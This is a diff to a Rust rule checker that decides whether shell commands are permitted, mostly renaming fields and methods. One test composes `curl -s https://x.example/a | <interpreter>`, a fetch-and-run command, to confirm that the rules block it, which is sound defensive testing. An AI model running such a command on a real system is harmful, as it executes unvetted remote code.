@@ -34,7 +34,7 @@ impl Rule {
         if !self.concerns_program_of(part) {
             return Err("the rule names another program");
         }
-        if wanted.program.is_none() && part.code {
+        if wanted.program.is_none() && part.is_opaque {
             return Err("a rule without `program` does not allow running code");
         }
         if wanted
@@ -94,7 +94,11 @@ impl Rule {
             return Err("a word of the command is unknown until it runs");
         }
         let mut named: Vec<&str> = Vec::new();
-        named.extend(part.touches.iter().map(|touch| touch.path.text.as_str()));
+        named.extend(
+            part.path_effects
+                .iter()
+                .map(|touch| touch.path.text.as_str()),
+        );
         match part.calls.as_slice() {
             [call] if call.understood => {
                 let operand = |text: &&&str| call.operands.iter().any(|o| o.text == ***text);
@@ -143,18 +147,18 @@ impl Rule {
                 return Err("a redirection does not match the rule's `redirections`");
             }
         }
-        if !wanted.redirections.documents && own().any(|part| !part.documents.is_empty()) {
+        if !wanted.redirections.documents && own().any(|part| !part.here_documents.is_empty()) {
             return Err("a here-document needs `<<` in `redirections`");
         }
         let name = part.words.first().map_or("", |word| base_name(&word.text));
         let piped = part.input.is_some()
-            && part.documents.is_empty()
+            && part.here_documents.is_empty()
             && !part
                 .redirections
                 .iter()
                 .any(|touch| touch.effect == Crud::Read);
-        let runs = part.runs_input
-            || part.calls.is_empty() && Tables::embedded().names_an_interpreter(name);
+        let runs =
+            part.runs_input || part.calls.is_empty() && Tables::embedded().is_interpreter(name);
         if piped && runs && !wanted.redirections.pipes {
             return Err("the program may run its input, which needs `|` in `redirections`");
         }
@@ -185,9 +189,9 @@ impl Rule {
 }
 
 fn substitutes(scene: &Scene<'_>, part: &Part) -> bool {
-    scene.parts().substitutions
-        || part.substitutions
-        || scene.around(part).any(|around| around.substitutions)
+    scene.parts().has_substitutions
+        || part.has_substitutions
+        || scene.around(part).any(|around| around.has_substitutions)
 }
 
 fn assignment(word: &str) -> bool {
@@ -283,7 +287,7 @@ mod tests {
         let protected = Protected::new("/srv/u");
         let rules = Rules::parse(&text, "guard.toml", Origin::User, None, &protected);
         let rules = rules.expect("the rules are right");
-        let found = Classifier::new().judge(command, None);
+        let found = Classifier::new().analyze(command, None);
         let verdict = rules.judge(
             &PermissionRequest::new(command),
             &found.expect("it is a command"),
@@ -343,10 +347,10 @@ mod tests {
         let mut wrong = Vec::new();
         for name in names {
             let command = format!("curl -s https://x.example/a | {name}");
-            let found = Classifier::new().judge(&command, None);
+            let found = Classifier::new().analyze(&command, None);
             let found = found.expect("it is a command");
             let runs_code =
-                found.classification.understood() && found.parts.runs().any(|part| part.code);
+                found.classification.understood() && found.parts.runs().any(|part| part.is_opaque);
             if runs_code && covers(name, &command) {
                 wrong.push(format!("{command}: {}", found.classification.reasoning));
             }
